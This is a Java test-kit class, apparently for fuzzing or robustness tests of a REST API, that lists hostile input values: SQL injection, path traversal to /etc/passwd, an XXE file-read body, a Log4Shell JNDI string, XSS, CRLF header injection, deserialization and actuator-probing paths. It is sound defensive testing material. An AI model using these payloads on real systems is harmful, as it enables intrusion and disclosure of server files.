package kutip.testkit;

/** Texts, ids, paths, bodies and headers that no honest program sends. */
final class HostileValues {

  static final String[] TEXTS = {
    "' or '1'='1",
    "\"; drop table fact; --",
    "1;select pg_sleep(9)",
    "\0",
    "\r\nX-Evil: 1",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "<script>alert(1)</script>",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "\u202e\ufeff\uffff",
    "a\u0300".repeat(400),
    "LTE",
    "AA",
    "MTIzNDU2Nzg5MDEyMzQ1Njc4OTA",
    "eyJhIjpbXX0",
    "MjAyNS0wMS0wMTs5OTk5OTk5OTk5OTk5OTk5OTk5OQ",
    "x|y|z",
    "😀",
    "-1",
    "9223372036854775808",
    "1e309",
    "NaN",
    "null",
    "[]",
    "{}",
    "true",
    "%",
    "%zz",
    "a".repeat(1500),
    "2025-13-45",
    "0000-00-00",
    "*",
    "(",
    "\"",
    "kind:",
    "a OR",
    "NOT",
    "AND AND",
    "~",
    "[a TO",
    "\\",
    "/",
    "?",
    "&",
    "=",
    "#"
  };
  static final String[] IDS = {
    "-1",
    "0",
    "9223372036854775807",
    "9223372036854775808",
    "x",
    "1.5",
    "%2e%2e",
    "..%2f..",
    "%00",
    "';--",
    "%F0%9F%98%80",
    "%C0%AE",
    "a".repeat(3000),
    "%25",
    ";a=b",
    "*",
    "null"
  };
  static final String[] PATHS = {
    "/api/v1/../../actuator/prometheus",
    "/api/v1/..;/users",
    "/api//v1/facts",
    "/API/V1/facts",
    "/api/v1/facts/",
    "/api/v1/%2e%2e/%2e%2e/etc/passwd",
    "/api/v1/facts%00",
    "/api/v1/facts.json",
    "/api/v1/facts;jsessionid=1",
    "//evil.example/api/v1/facts",
    "/api/v1/facts/%2f",
    "*",
    "",
    "http://evil.example/",
    "/api/v1",
    "/actuator",
    "/actuator/env",
    "/actuator/heapdump",
    "/api/v1/\\facts",
    "/api/v1/fa\tcts",
    "/mcp/../api/v1/facts",
    "/error",
    "/VAADIN/../x",
    "/api/v1/" + "x/".repeat(800),
    "/h2-console",
    "/WEB-INF/web.xml",
    "/%57EB-INF/web.xml"
  };
  static final String[] BODIES = {
    "",
    "{",
    "}",
    "[",
    "null",
    "7",
    "true",
    "\"x\"",
    "[]",
    "[[[[]]]]",
    "{\"a\":",
    "{\"a\":}",
    "{\"\\u0000\":1}",
    "\0\0",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "a=b&c=d",
    "{\"__proto__\":{}}",
    "{\"@class\":\"java.lang.Runtime\"}",
    "1e999999",
    "{\"id\":1e999999}",
    "{\"id\":" + "9".repeat(2000) + "}",
    "{\"id\":\"\\ud800\"}",
    "{\"\\ud800\":\"\"}",
    "{\"id\":\"a\", \"id\":\"b\"}",
    "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
    "\ufeff{}",
    "{} {}",
    "{}\n{}\n[",
    "// {}",
    "{'a': 1}",
    "{\"id\": NaN}"
  };
  static final String[] TYPES = {
    "text/plain",
    "application/xml",
    "multipart/form-data; boundary=x",
    "application/json; charset=x",
    "application/x-www-form-urlencoded",
    "a",
    "application/json",
    "",
    "application/x-ndjson"
  };
  static final String[] METHODS = {
    "GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "BREW", "get"
  };
  static final String[] HEADERS = {
    "If-None-Match: \"",
    "If-None-Match: *",
    "If-None-Match: W/\"\"",
    "If-Match: \"x",
    "If-Match: *",
    "If-Modified-Since: yesterday",
    "If-Range: \"x\"",
    "Accept: " + "a/b,".repeat(500),
    "Accept-Charset: x",
    "Accept-Encoding: gzip;q=x",
    "Forwarded: for=\"_x\";proto=\"",
    "Last-Event-ID: -1",
    "Mcp-Session-Id: ../x",
    "If-None-Match: " + "\"a\",".repeat(300),
    "Range: bytes=0-,-1,5-2",
    "Accept: */*;q=x",
    "Accept: image/png",
    "Accept-Language: " + "x-".repeat(100),
    "Content-Encoding: gzip",
    "X-Forwarded-For: 127.0.0.1, ' or 1=1",
    "X-HTTP-Method-Override: DELETE",
    "Idempotency-Key: ",
    "Idempotency-Key: \u00e9",
    "X-Request-Id: <script>alert(1)</script>",
    "Cookie: JSESSIONID=../../x",
    "Origin: https://evil.example",
    "Expect: 200-maybe",
    "Content-Length: -5",
    "Content-Length: 99999999999",
    "Transfer-Encoding: chunked, identity",
    "Host: evil.example",
    "Upgrade: websocket",
    "X-A: " + "a".repeat(20_000),
    "bad header",
    ": a"
  };

  /** As they stand in an address. */
  static final String[] ENCODED = {
    "%ED%A0%80", "%C0%AF", "%FF", "%", "%2", "%u0041", "+", "%0d%0aX-Evil:1", "%00", "a;b", "a|b"
  };

  static final String[] INTEGERS = {
    "-1", "0", "2147483647", "2147483648", "-9223372036854775808", "9223372036854775808", "7"
  };

  static final String[] NUMBERS = {"-1", "0", "1e308", "1e-308", "1e30", "1e9999", "0.1", "7"};

  /** Where texts are awaited. */
  static final String[] WRONG = {
    "{}",
    "[[]]",
    "[{\"a\": 1}]",
    "-99999999999999999999999999",
    "1.5",
    "{\"a\": {\"b\": [1, 2, {}]}}"
  };

  private HostileValues() {}
}
